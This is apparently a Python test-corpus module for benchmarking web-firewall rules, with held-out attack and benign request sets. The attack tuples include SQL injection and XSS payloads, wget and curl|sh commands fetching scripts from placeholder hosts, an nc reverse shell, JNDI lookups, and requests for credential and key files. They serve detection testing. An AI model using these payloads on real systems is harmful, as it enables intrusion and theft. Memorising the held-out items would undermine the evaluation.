    ("rce", "query", "; python -c 'import socket,subprocess,os;s=socket.socket()'"),
    ("rce", "ua", "${jndi:ldaps://203.0.113.9/a}"),
    (
        "rce",
        "header:X-Forwarded-For",
        "${${upper:j}ndi:${upper:l}${upper:d}a${lower:p}://x.oast.example/a}",
    ),
    ("rce", "cookie", "${jndi:${lower:l}${lower:d}a${lower:p}://x/a}"),
    ("rce", "form", "{{ self.__init__.__globals__.__builtins__ }}"),
    ("rce", "query", "{% import os %}{{ os.system('id') }}"),
    ("rce", "form", "<?php system($_GET[c]);?>"),
    ("rce", "json", "<?=`$_GET[0]`?>"),
    ("rce", "query", "#set($x='')##$x.class.forName('java.lang.Runtime').getRuntime().exec('id')"),
    ("rce", "form", "__import__('os').system('id')"),
    ("rce", "json", "require('child_process').exec('id')"),
    ("rce", "cookie", 'O:21:"JDatabaseDriverMysqli":3:{s:2:"fc";O:17:"JSimplepieFactory":0:{}}'),
    ("rce", "ua", "() { ignored; }; echo; /usr/bin/id"),
    ("rce", "query", "; sleep${IFS}5"),
    ("rce", "form", "& ping -n 10 127.0.0.1 &"),
    ("scanner", "ua", "Mozilla/5.0 (Windows; U; Windows NT 6.1) (sqlmap)"),
    ("scanner", "ua", "Nikto/2.5.0"),
    ("scanner", "ua", "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)"),
    ("scanner", "ua", "Jorgee"),
    ("scanner", "ua", "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)"),
    ("scanner", "ua", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"),
    ("scanner", "ua", "Nessus SOAP"),
    ("scanner", "path", "/cgi-bin/luci/;stok=/locale"),
    ("scanner", "path", "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php"),
    ("scanner", "path", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"),
    ("scanner", "path", "/_ignition/execute-solution"),
    ("scanner", "path", "/console/login/LoginForm.jsp"),
    ("scanner", "path", "/actuator/env"),
    ("protocol", "method", "TRACE"),
    ("protocol", "method", "TRACK"),
    ("protocol", "raw", "%0d%0aSet-Cookie:%20sid=evil"),
    ("protocol", "raw", "%E5%98%8A%E5%98%8DSet-Cookie:%20x=1"),
    ("protocol", "raw", "shell.php%2500.jpg"),
    ("protocol", "header:Range", "bytes=0-1," + ",".join(f"{i}-{i + 1}" for i in range(2, 80))),
    ("protocol", "header:X-Original-URL", "/admin/config"),
    ("protocol", "body", "a=1&b=2\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n"),
    ("protocol", "header:Content-Type", "application/x-www-form-urlencoded; charset=utf-7"),
    ("protocol", "raw", "%0aHTTP/1.1%20200%20OK%0aContent-Type:%20text/html"),
)


def _deliver(cat: str, how: str, p: str, note: str) -> CorpusRequest:
    """One held-out payload delivered the way `how` names (query, double, raw, form, json...)."""
    h = _headers()
    if how == "query":
        return CorpusRequest(cat, "GET", "/search", f"q={quote(p, safe='')}", h, None, note)
    if how == "double":
        q = f"q={quote(quote(p, safe=''), safe='')}"
        return CorpusRequest(cat, "GET", "/page/1", q, h, None, note)
    if how == "raw":
        return CorpusRequest(cat, "GET", "/item", f"v={p}", h, None, note)
    if how == "rawquery":
        return CorpusRequest(cat, "GET", "/api/login", p, h, None, note)
    if how == "form":
        return _form(cat, "/community/posts", {"title": "hi", "body": p}, note)
    if how == "json":
        return _json(cat, "/api/comments", {"thread": 7, "text": p}, note)
    if how in ("rawjson", "body"):
        ctype = "application/json" if how == "rawjson" else "application/x-www-form-urlencoded"
        body = p.encode()
        h = {**h, "Content-Type": ctype, "Content-Length": str(len(body))}
        return CorpusRequest(cat, "POST", "/api/login", "", h, body, note)
    if how == "cookie":
        h["Cookie"] = f"session=abc123; pref={quote(p, safe='')}"
        return CorpusRequest(cat, "GET", "/account", "", h, None, note)
    if how in ("ua", "referer") or how.startswith("header:"):
        name = {"ua": "User-Agent", "referer": "Referer"}.get(how, how.partition(":")[2])
        h[name] = p
        return CorpusRequest(cat, "GET", "/", "", h, None, note)
    if how == "headers":  # several headers, one "Name: value" a line
        for line in p.splitlines():
            name, _, value = line.partition(": ")
            h[name] = value
        return CorpusRequest(cat, "POST", "/", "", h, b"0\r\n\r\n", note)
    if how == "multipart":
        boundary = "----WebKitFormBoundaryHeldOut4x"
        body = (
            f'--{boundary}\r\nContent-Disposition: form-data; name="comment"\r\n\r\n{p}\r\n'
            f"--{boundary}--\r\n"
        ).encode()
        ctype = f"multipart/form-data; boundary={boundary}"
        h = {**h, "Content-Type": ctype, "Content-Length": str(len(body))}
        return CorpusRequest(cat, "POST", "/upload", "", h, body, note)
    if how == "xml":
        body = f'<?xml version="1.0"?>{p}'.encode()  # the document after the declaration
        h = {**h, "Content-Type": "application/xml", "Content-Length": str(len(body))}
        return CorpusRequest(cat, "POST", "/api/orders", "", h, body, note)
    if how == "path":
        path, _, q = p.partition("?")
        return CorpusRequest(cat, "GET", path, q, h, None, note)
    if how == "method":
        return CorpusRequest(cat, p, "/", "", h, None, note)
    raise ValueError(f"unknown delivery {how!r}")


def heldout2_attacks() -> list[CorpusRequest]:
    """The second held-out attack set, each payload delivered the way its entry names."""
    return [_deliver(c, how, p, f"held-out-2 {how}: {p[:120]}") for c, how, p in HELDOUT2_ATTACKS]


def _benign_set(
    label: str,
    text: tuple[str, ...],
    queries: tuple[str, ...],
    paths: tuple[str, ...],
    docs: tuple[object, ...],
    cookies: tuple[str, ...],
    referers: tuple[str, ...],
    uas: tuple[str, ...],
) -> list[CorpusRequest]:
    """A held-out benign set's requests: free text (as a search, a form post and a JSON field in
    turn), query strings, paths, JSON bodies, cookies, referers and user agents; `label` names
    the set in each request's note."""
    out: list[CorpusRequest] = []
    browsers = BROWSER_UAS
    for i, p in enumerate(text):
        note = f"{label} text: {p}"
        ua = browsers[i % len(browsers)]
        if i % 3 == 0:
            q = urlencode({"q": p})
            out.append(CorpusRequest("benign", "GET", "/search", q, _headers(ua=ua), None, note))
        elif i % 3 == 1:
            fields = {"title": "Question", "body": p, "tags": "help"}
            out.append(_form("benign", "/community/posts", fields, note, ua=ua))
        else:
            out.append(_json("benign", "/api/comments", {"thread": i, "text": p}, note, ua=ua))
    for i, q in enumerate(queries):
        h = _headers(ua=browsers[i % len(browsers)], Accept="application/json")
        out.append(CorpusRequest("benign", "GET", "/api/items", q, h, None, f"{label} query: {q}"))
    for i, p in enumerate(paths):
        h = _headers(ua=browsers[i % len(browsers)])
        out.append(CorpusRequest("benign", "GET", p, "", h, None, f"{label} path: {p}"))
    for i, d in enumerate(docs):
        note = f"{label} json: {json.dumps(d)[:100]}"
        out.append(_json("benign", "/api/v2/things", d, note, ua=browsers[i % len(browsers)]))
    for i, c in enumerate(cookies):
        h = _headers(ua=browsers[i % len(browsers)], Cookie=c)
        out.append(CorpusRequest("benign", "GET", "/account", "", h, None, f"{label} cookie: {c}"))
    for i, r in enumerate(referers):
        h = _headers(ua=browsers[i % len(browsers)], Referer=r)
        note = f"{label} referer: {r}"
        out.append(CorpusRequest("benign", "GET", "/products", "", h, None, note))
    for ua in uas:
        note = f"{label} user agent: {ua}"
        out.append(CorpusRequest("benign", "GET", "/", "", _headers(ua=ua), None, note))
    return out


def heldout2_benign() -> list[CorpusRequest]:
    """The second held-out benign set: free text, query strings, paths, JSON, headers."""
    return _benign_set(
        "held-out-2",
        HELDOUT2_BENIGN_TEXT,
        HELDOUT2_BENIGN_QUERIES,
        HELDOUT2_BENIGN_PATHS,
        HELDOUT2_BENIGN_JSON,
        HELDOUT2_BENIGN_COOKIES,
        HELDOUT2_BENIGN_REFERERS,
        HELDOUT2_BENIGN_UAS,
    )


# -- held out, third set: written on 2026-11-27 BEFORE the second false-positive round ----------
# Same rule as HELDOUT2: nobody looks at which of these items the rules flag while tuning;
# `benchmarks/waf_eval.py` prints their totals only unless asked (`--show-heldout3`).

HELDOUT3_BENIGN_TEXT: tuple[str, ...] = (
    # developer forum: shells, paths, code
    "python subprocess run vs popen",
    "how to kill a process on port 8080 linux",
    "bash for loop over files in a directory",
    "git reset --hard origin/main lost my changes",
    "docker run -it --rm ubuntu bash",
    "curl -X POST with a json body and headers",
    "what is /dev/null and why redirect to it",
    "rm -rf node_modules && npm install fixed it",
    "chmod +x deploy.sh then ./deploy.sh",
    "ping 8.8.8.8 works but dns doesn't",
    "echo $PATH shows the wrong python",
    "export PATH=$HOME/.local/bin:$PATH in .bashrc",
    "crontab every 5 minutes: */5 * * * *",
    "find . -name '*.log' -mtime +7 -delete",
    "ps aux | grep nginx shows two masters",
    "what does 2>&1 mean at the end of a command",
    "powershell Get-ChildItem -Recurse -Filter *.txt",
    "${HOME} vs ~ in bash scripts",
    "{{ variable }} not rendering in jinja template",
    "template literal `${name}` in javascript",
    "is eval() really that bad in javascript?",
    "base64 encode a string in python 3",
    "import os; os.getcwd() returns the wrong folder",
    "spring boot actuator health endpoint returns 404",
    "how to read /var/log/syslog on ubuntu",
    "C:\\Users\\sam\\Documents\\resume.docx won't open",
    "mongodb $ne operator example",
    "$gt and $lt in a mongoose find query",
    "what does c?t match in a shell glob",
    "/proc/cpuinfo explained: what are flags",
    "how do I use the Range header for video streaming",
    "utf-7 encoding explained",
    "wordpress file manager plugin review",
    "is nikto a virus? my antivirus flagged it",
    # SQL and web questions
    "left join vs inner join with an example",
    "select * from orders where status = 'shipped' returns nothing",
    "update users set email where id is null",
    "mysql order by rand() is slow",
    "why do people write WHERE 1=1 in query builders",
    "sql injection prevention with prepared statements in php",
    "javascript onclick vs addEventListener",
    "react onChange not firing on input",
    "<br> vs <br/> in html5",
    "css selector a[href^='http'] not matching",
    "alert() not working in chrome extension",
    "document.getElementById returns null",
    "<table> borders not showing in email",
    "img onerror fallback image best practice",
    'what does href="javascript:void(0)" mean',
    "if (a && b) { return; } vs nested ifs",
    # shop and everyday text
    "Tom & Jerry; the movie (2021)",
    "is 5 > 3? yes; and 3 < 5",
    "50% off -- today only!!!",
    "Ben & Jerry's 'Cherry Garcia' ice cream",
    "I'd rate it 4/5 -- would buy again; shipping was slow though",
    "price <= $20 and rating >= 4",
    "AT&T vs T-Mobile coverage map",
    "the script for the school play",
    "Macbeth Act 1 Scene 5: 'Come, you spirits'",
    "union jack cushion cover",
    "select committee report 2024",
    "drop shipping business ideas",
    "insert coin to continue arcade cabinet",
    "delete my account and all data",
    "exec summary template for a board meeting",
    "O'Reilly 'Learning SQL' 3rd edition",
    "Müller & Söhne Kaffeemühle (Edelstahl)",
    'shelf 12" x 8\' board, 1" thick',
    "5'11\" in cm",
    "order #1234 -- where is it?",
    "or 1 more thing: can I return it after 30 days?",
    "and/or vs or in legal writing",
    "what's the difference between 'its' and 'it's'?",
    "cat & dog bed, large (grey)",
    "how to clean a burr grinder; rice or tablets?",
)
"""Free text, each sent once: as a search, a forum post (form) or a JSON comment, in turn."""

HELDOUT3_BENIGN_QUERIES: tuple[str, ...] = (
    "utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2024&utm_content=hero%7Cbtn",
    "fbclid=IwAR2xYz_abc-DEF123&utm_source=facebook",
    "gclid=Cj0KCQjw_abc-123&gad_source=1",
    "sort=-created_at&page[size]=20&page[number]=2&include=author,comments",
    "where=%7B%22score%22%3A%7B%22%24gte%22%3A1000%7D%7D&limit=10",
    "filter[price][_gte]=10&filter[status][_eq]=published",
    "q=%22exact+phrase%22+-minus+site%3Aexample.com",
    "select=id,name,price&order=price.desc&price=lt.100",
    "fields[articles]=title,body&fields[people]=name",
    "expand=items.product&limit=50&offset=100",
    "search=rock+%26+roll&genre=80%27s",
    "tags=c%2B%2B,c%23,.net",
    "returnUrl=%2Faccount%2Forders%3Fpage%3D2",
    "text=Hello%2C+world%21+%3A-%29",
    "extensions=%7B%22persistedQuery%22%3A%7B%22version%22%3A1%2C%22sha256Hash%22%3A%22ab12%22%7D%7D",
)
"""Whole query strings: campaign tags, JSON:API, PostgREST, Directus, Parse, GraphQL APQ."""

HELDOUT3_BENIGN_PATHS: tuple[str, ...] = (
    "/blog/2024/03/why-we-moved-from-mysql-to-postgres",
    "/docs/api/v2/select-fields",
    "/static/js/main.3f2a1b.chunk.js",
    "/fonts/inter-var.woff2",
    "/images/products/42/thumb@2x.webp",
    "/u/sam.o%27neil",
    "/search/c%23%20tutorial",
    "/.well-known/openid-configuration",
    "/.well-known/apple-app-site-association",
    "/sitemap-products-1.xml.gz",
    "/feeds/all.atom.xml",
    "/wiki/Bobby_Tables",
    "/tags/shell-script",
    "/en-gb/help/returns-and-refunds",
)

HELDOUT3_BENIGN_JSON: tuple[object, ...] = (
    {"snippet": 'for f in *.txt; do echo "$f"; done', "lang": "bash"},
    {"review": "Great grinder -- 5/5. Burrs are steel; noise < 70 dB.", "rating": 5},
    {"name": "O'Neil & Sons Ltd.", "vat": "GB123456789"},
    {"query": "{ viewer { login repositories(first: 5) { nodes { name } } } }"},
    {
        "operationName": "GetCart",
        "variables": {"id": "42"},
        "query": "query GetCart($id: ID!) { cart(id: $id) { total } }",
    },
    {"filter": {"price": {"gte": 10, "lte": 50}, "tags": {"in": ["a", "b"]}}},
    {"template": "Hi {{first_name}}, your order {{order_id}} has shipped."},
    {"css": "a:hover { color: #c00; } /* brand red */"},
    {"path": "C:\\Users\\Public\\Downloads\\invoice.pdf"},
    {"regex": "^[a-z0-9._%+-]+@[a-z0-9.-]+\\.[a-z]{2,}$"},
    {"cron": "0 */6 * * *", "task": "sync"},
    {"message": "Running `ls -la` shows nothing; tried `cd ..` too"},
    {"note": "Seen curl/8.4.0 and python-requests in the logs"},
    {"addr": "10.0.0.1/24", "gw": "10.0.0.254"},
    {"text": "Use <kbd>Ctrl</kbd>+<kbd>C</kbd> to copy", "format": "html"},
)

HELDOUT3_BENIGN_COOKIES: tuple[str, ...] = (
    "_fbp=fb.1.1700000000000.1234567890; _gcl_au=1.1.1234567890.1700000000",
    "cf_clearance=abc.def-1700000000-0-1-abc.def.ghi-0.2.1700000000",
    "OptanonConsent=isGpcEnabled=0&datestamp=Mon+Apr+22+2024+10%3A00%3A00+GMT%2B0100"
    "&version=202403.1.0&groups=C0001%3A1%2CC0002%3A0",
    "CookieConsent={stamp:%27abc==%27%2Cnecessary:true%2Cpreferences:false%2Cstatistics:true"
    "%2Cmarketing:false%2Cmethod:%27explicit%27%2Cver:1}",
    "session=eyJ1c2VyIjoic2FtIn0.ZiZ0aA.abcDEF_ghi-jkl",
    "ASP.NET_SessionId=abcdefghijklmnopqrstuvwx; .AspNetCore.Antiforgery.xyz=CfDJ8abc-def",
    "shopify_y=abc-123; cart=c1-abc123; cart_sig=0123abcd; secure_customer_sig=",
    "remember_web_59ba36=eyJpdiI6Ij; theme=dark; font-size=16px",
    "recently_viewed=%5B%2242%22%2C%2217%22%5D; currency=EUR",
    "search_history=how%20to%20select%20a%20grinder%7Cdrop%20shipping",
)

HELDOUT3_BENIGN_REFERERS: tuple[str, ...] = (
    "https://www.google.co.uk/",
    "https://www.google.com/search?q=%22union%22+jack+mug&sca_esv=123",
    "https://search.yahoo.com/search?p=select+comfort+bed",
    "https://www.pinterest.com/pin/123456789/",
    "https://shop.example.com/cart?coupon=SAVE10&step=2",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
    "https://stackoverflow.com/questions/456/how-to-edit-etc-hosts-on-windows",
    "https://www.baidu.com/s?wd=%E5%92%96%E5%95%A1",
    "https://translate.google.com/?sl=auto&tl=en&text=caf%C3%A9%20cr%C3%A8me&op=translate",
    "https://outlook.live.com/",
)

HELDOUT3_BENIGN_UAS: tuple[str, ...] = (
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.0; "
    "+https://openai.com/gptbot)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0",
    "Mozilla/5.0 (PlayStation; PlayStation 5/2.26) AppleWebKit/605.1.15 (KHTML, like Gecko)",
    "Roku/DVP-12.5 (12.5.0.4178-C2)",
    "Pinterestbot/1.0 (+http://www.pinterest.com/bot.html)",
    "LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)",
    "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)",
    "Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
    "PostmanRuntime/7.37.3",
    "okhttp/4.12.0",
    "axios/1.6.8",
    "python-requests/2.31.0",
)
"""Crawlers, monitors, consoles and API clients a real site serves."""

HELDOUT3_BENIGN_REQUESTS: tuple[tuple[str, str, str, dict[str, str], bytes | None], ...] = (
    # (method, path, query, extra headers, body): HTTP features real clients use
    ("GET", "/video/intro.mp4", "", {"Range": "bytes=0-"}, None),
    ("GET", "/video/intro.mp4", "", {"Range": "bytes=1048576-2097151"}, None),
    ("GET", "/files/catalogue.pdf", "", {"Range": "bytes=0-1023,4096-8191"}, None),
    (
        "POST",
        "/contact",
        "",
        {"Content-Type": "application/x-www-form-urlencoded; charset=ISO-8859-1"},
        b"name=Jos%E9&message=Merci+beaucoup",
    ),
    (
        "POST",
        "/upload",
        "",
        {"Content-Type": "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"},
        b'------WebKitFormBoundary7MA4YWxkTrZu0gW\r\nContent-Disposition: form-data; name="note"'
        b"\r\n\r\nsee attached\r\n------WebKitFormBoundary7MA4YWxkTrZu0gW--\r\n",
    ),
    ("POST", "/api/notes", "", {"Content-Type": "text/plain; charset=utf-8"}, b"hello"),
    (
        "OPTIONS",
        "/api/items",
        "",
        {"Origin": "https://app.example.com", "Access-Control-Request-Method": "PUT"},
        None,
    ),
    ("HEAD", "/", "", {}, None),
    ("PUT", "/api/v1/cart/42", "", {"Content-Type": "application/json"}, b'{"qty": 3}'),
    ("DELETE", "/api/v1/cart/42/items/7", "", {}, None),
    ("PATCH", "/api/v1/me", "", {"Content-Type": "application/json"}, b'{"name": "Sam"}'),
    ("GET", "/", "", {"X-Forwarded-For": "203.0.113.7, 10.0.0.2"}, None),
    (
        "GET",
        "/styles.css",
        "",
        {"If-None-Match": 'W/"5e-abc"', "If-Modified-Since": "Wed, 21 Oct 2015 07:28:00 GMT"},
        None,
    ),
    ("GET", "/api/repos", "", {"Accept": "application/vnd.github+json"}, None),
    (
        "GET",
        "/api/me",
        "",
        {"Authorization": "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0MiJ9.x"},
        None,
    ),
    (
        "GET",
        "/",
        "",
        {
            "sec-ch-ua": '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"',
            "Sec-Fetch-Mode": "navigate",
            "Cache-Control": "no-cache",
            "Pragma": "no-cache",
        },
        None,
    ),
)

HELDOUT3_ATTACKS: tuple[tuple[str, str, str], ...] = (
    # (category, delivery, payload); deliveries as in HELDOUT2 (`_deliver`).
    ("sqli", "query", "1' AND 3421=3421 AND 'xYzA'='xYzA"),
    ("sqli", "double", "-7' UNION ALL SELECT CONCAT(0x71,0x62,0x71),NULL,NULL-- wXyZ"),
    (
        "sqli",
        "form",
        "x' AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,(SELECT (ELT(1=1,1))),0x71))s)"
        ", 8446744073709551610, 8446744073709551610)))-- -",
    ),
    ("sqli", "json", "1) OR (1=1"),
    ("sqli", "query", "1'/**/OR/**/1=1#"),
    ("sqli", "cookie", "1 AND 1=(SELECT COUNT(*) FROM tabname); --"),
    ("sqli", "query", "' AND substr((select password from users limit 1),1,1)='a"),
    ("sqli", "raw", "1%20UNION%20SELECT%20password%20FROM%20users%20--"),
    ("sqli", "form", "admin') OR ('1'='1"),
    ("sqli", "query", "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))"),
    ("sqli", "json", "'; SELECT pg_sleep(10); --"),
    ("sqli", "header:X-Forwarded-For", "127.0.0.1' AND SLEEP(5)-- -"),
    ("sqli", "query", "1 AND 1=CAST((SELECT current_user) AS int)"),
    ("sqli", "rawjson", '{"email": {"$gt": ""}, "password": {"$gt": ""}}'),
    ("sqli", "rawquery", "username[$ne]=toto&password[$ne]=toto"),
    ("sqli", "json", "' || '1'=='1"),
    ("sqli", "query", "1;SELECT/*foo*/load_file('/etc/passwd')"),
    ("sqli", "double", "%' OR 1=1 UNION SELECT name, pass FROM members WHERE '%'='"),
    ("sqli", "ua", "Mozilla/5.0' AND (SELECT 1 FROM (SELECT SLEEP(7))x) AND 'a'='a"),
    ("xss", "query", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("xss", "double", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("xss", "form", '<a href="&#106;avascript:alert(1)">click</a>'),
    ("xss", "json", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">'),
    ("xss", "query", '"autofocus onfocus=alert(1) x="'),
    ("xss", "cookie", "';alert(document.cookie)//"),
    ("xss", "raw", "%3Cimg%20src%3Dx%20onerror%3Dprompt%60%60%3E"),
    ("xss", "form", "<marquee onstart=alert(1)>"),
    ("xss", "query", "<form><button formaction=javascript:alert(1)>X</button></form>"),
    ("xss", "json", '<embed src="javascript:alert(1)">'),
    ("xss", "referer", 'https://e.example/"><script src=//evil.example/x.js></script>'),
    ("xss", "query", "<svg><script>alert&#40;1&#41;</script>"),
    ("xss", "form", '<base href="//evil.example/">'),
    ("xss", "raw", "%253Cscript%253Ealert(1)%253C%252Fscript%253E"),
    ("xss", "query", "<x onclick=alert(1)>click"),
    (
        "xss",
        "json",
        "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/"
        "+/[*/[]/+alert(1)//'>",
    ),
    ("xss", "header:X-Forwarded-Host", '"><script>alert(1)</script>'),
    ("lfi", "query", "../../../../etc/hosts"),
    ("lfi", "double", "../../../../../../etc/group"),
    ("lfi", "raw", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("lfi", "raw", "%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("lfi", "form", "/proc/self/cmdline"),
    ("lfi", "json", "....\\\\....\\\\....\\\\boot.ini"),
    ("lfi", "query", "file:///c:/windows/win.ini"),
    ("lfi", "query", "zip://uploads/avatar.jpg#shell.php"),
    ("lfi", "query", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+"),
    ("lfi", "path", "/..;/..;/etc/passwd"),
    ("lfi", "path", "/assets/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("lfi", "path", "/.env.production"),
    ("lfi", "path", "/.aws/credentials"),
    ("lfi", "path", "/.ssh/id_rsa"),
    ("lfi", "path", "/WEB-INF/classes/application.properties"),
    ("lfi", "path", "/backup.sql.gz"),
    ("lfi", "cookie", "../../../../../../proc/self/fd/2"),
    ("lfi", "query", "/var/www/html/.htpasswd"),
    ("rce", "query", "|| whoami"),
    ("rce", "double", "`id`"),
    ("rce", "form", "; wget http://203.0.113.5/x.sh -O /tmp/x.sh; sh /tmp/x.sh"),
    ("rce", "json", "$(curl -fsSL http://203.0.113.5/i|sh)"),
    ("rce", "raw", "1%3Bcat%24IFS%2Fetc%2Fpasswd"),
    ("rce", "query", ";c\\at /et\\c/pas\\swd"),
    ("rce", "query", "; /bin/c[a]t /e[t]c/p[a]sswd"),
    ("rce", "form", "a|w'h'o'a'm'i"),
    ("rce", "query", "$(printf '\\x69\\x64')"),
    ("rce", "cookie", "; nc -e /bin/sh 203.0.113.5 4444"),
    ("rce", "ua", "() { :;}; /bin/bash -c 'cat /etc/passwd'"),
    ("rce", "header:X-Api-Version", "${jndi:rmi://203.0.113.5:1099/x}"),
    ("rce", "json", "${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x.example/a"),
    ("rce", "query", "{{7*7}}{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"),
    ("rce", "form", "<%= system('id') %>"),
    ("rce", "query", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("rce", "json", "powershell -nop -w hidden -enc SQBFAFgA"),
    ("rce", "query", "& cmd /c whoami &"),
    ("rce", "form", "';system('id');//"),
    ("rce", "query", "eval(base64_decode('c3lzdGVtKCJpZCIpOw=='))"),
    (
        "scanner",
        "ua",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    ),
    ("scanner", "ua", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"),
    ("scanner", "ua", "Mozilla/5.0 zgrab/0.x"),
    ("scanner", "ua", "Fuzz Faster U Fool v2.1.0-dev"),
    ("scanner", "ua", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
    ("scanner", "ua", "gobuster/3.6"),
    ("scanner", "ua", "feroxbuster/2.10.2"),
    ("scanner", "ua", "WhatWeb/0.5.5"),
    (
        "scanner",
        "ua",
        "Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple "
        "times per day to identify customers' presences on the Internet.",
    ),
    ("scanner", "path", "/pma/scripts/setup.php"),
    ("scanner", "path", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
    ("scanner", "path", "/solr/admin/cores?action=STATUS&wt=json"),
    ("scanner", "path", "/manager/html"),
    ("scanner", "path", "/owa/auth/x.js"),
    ("scanner", "path", "/boaform/admin/formLogin"),
    ("scanner", "path", "/HNAP1/"),
    ("scanner", "path", "/telescope/requests"),
    ("scanner", "path", "/debug/pprof/"),
    ("scanner", "path", "/containers/json"),
    ("protocol", "method", "CONNECT"),
    ("protocol", "method", "PROPFIND"),
    ("protocol", "method", "DEBUG"),
    ("protocol", "header:Transfer-Encoding", "x-chunked"),
    ("protocol", "header:Content-Length", "0, 42"),
    ("protocol", "header:Range", "bytes=" + ",".join(["0-"] * 40)),
    ("protocol", "header:Range", "bytes=18-18446744073709551615"),
    ("protocol", "header:Content-Type", "application/json; charset=ibm037"),
    ("protocol", "header:Content-Type", "multipart/form-data; boundary=x; charset=ibm500"),
    ("protocol", "raw", "%u000d%u000aSet-Cookie:x=1"),
    ("protocol", "raw", "%23%0dSet-Cookie:x=1"),
    ("protocol", "header:X-Rewrite-URL", "/admin"),
    ("protocol", "body", "0\r\n\r\nPOST /admin HTTP/1.1\r\nHost: x\r\n\r\n"),
    ("protocol", "raw", "avatar.php%00.png"),
    ("protocol", "rawquery", "&".join(f"p{i}=1" for i in range(600))),
    ("protocol", "method", "trace"),
)


def heldout3_attacks() -> list[CorpusRequest]:
    """The third held-out attack set, each payload delivered the way its entry names."""
    return [_deliver(c, how, p, f"held-out-3 {how}: {p[:120]}") for c, how, p in HELDOUT3_ATTACKS]


def heldout3_benign() -> list[CorpusRequest]:
    """The third held-out benign set: free text, queries, paths, JSON, headers, HTTP features."""
    out = _benign_set(
        "held-out-3",
        HELDOUT3_BENIGN_TEXT,
        HELDOUT3_BENIGN_QUERIES,
        HELDOUT3_BENIGN_PATHS,
        HELDOUT3_BENIGN_JSON,
        HELDOUT3_BENIGN_COOKIES,
        HELDOUT3_BENIGN_REFERERS,
        HELDOUT3_BENIGN_UAS,
    )
    return out + _requests("held-out-3", HELDOUT3_BENIGN_REQUESTS)


def _requests(
    label: str, items: tuple[tuple[str, str, str, dict[str, str], bytes | None], ...]
) -> list[CorpusRequest]:
    """Benign requests given whole (method, path, query, extra headers, body), browser headers
    underneath; `label` names the set in each request's note."""
    out: list[CorpusRequest] = []
    uas = BROWSER_UAS
    for i, (method, path, q, extra, body) in enumerate(items):
        h = {**_headers(ua=uas[i % len(uas)]), **extra}
        if body is not None:
            h["Content-Length"] = str(len(body))
        note = f"{label} request: {method} {path} {extra}"
        out.append(CorpusRequest("benign", method, path, q, h, body, note))
    return out


# -- held out, fourth set: written on 2026-11-27 BEFORE the third detection round ---------------
# Written from public attack-pattern knowledge and from what real sites receive, without running
# the rules on it; committed before any rule change. `benchmarks/waf_eval.py` prints its totals
# only unless asked (`--show-heldout4`), which is for the end of the round.

HELDOUT4_BENIGN_TEXT: tuple[str, ...] = (
    # developer forum: SQL posted as code
    "SELECT COUNT(*) FROM orders GROUP BY customer_id HAVING COUNT(*) > 5",
    "how do I write SELECT name, email FROM users WHERE created_at > NOW() - INTERVAL 7 DAY",
    "UPDATE products SET price = price * 1.1 WHERE category = 'books';",
    "INSERT INTO logs (level, msg) VALUES ('info', 'started')",
    "why is my DELETE FROM sessions WHERE expires < now() so slow",
    "postgres: CREATE INDEX CONCURRENTLY on a big table",
    "sqlite 'database is locked' error with python",
    "ORA-00933: SQL command not properly ended",
    "EXPLAIN ANALYZE shows a seq scan on orders even with an index",
    "mysql: ERROR 1064 (42000): You have an error in your SQL syntax near ''' at line 1",
    "COALESCE(NULL, 'n/a') vs IFNULL",
    "ALTER TABLE users ADD COLUMN last_login timestamptz;",
    # HTML and JavaScript in posts
    '<div class="container"> not centering with flexbox',
    '<link rel="preload" as="font" crossorigin> warning in chrome',
    '<input type="email" required> validation message language',
    "how to escape </script> inside a JSON blob in an HTML page",
    "onload event for <img> fires before the image is visible?",
    "Vue v-on:click vs @click",
    "$(document).ready(function() { ... }) is deprecated?",
    "<p>Hello <b>world</b></p> renders as plain text in my email",
    "document.cookie is empty in Safari with SameSite=None",
    "what is the difference between innerHTML and textContent",
    # shells and system talk
    "`git log --oneline | head -20` shows only merges",
    "```bash\nsudo systemctl restart nginx\n```\ndidn't pick up the new config",
    "run `cat ~/.ssh/id_ed25519.pub` and paste the output into GitHub",
    "what's in /etc/nginx/sites-enabled by default",
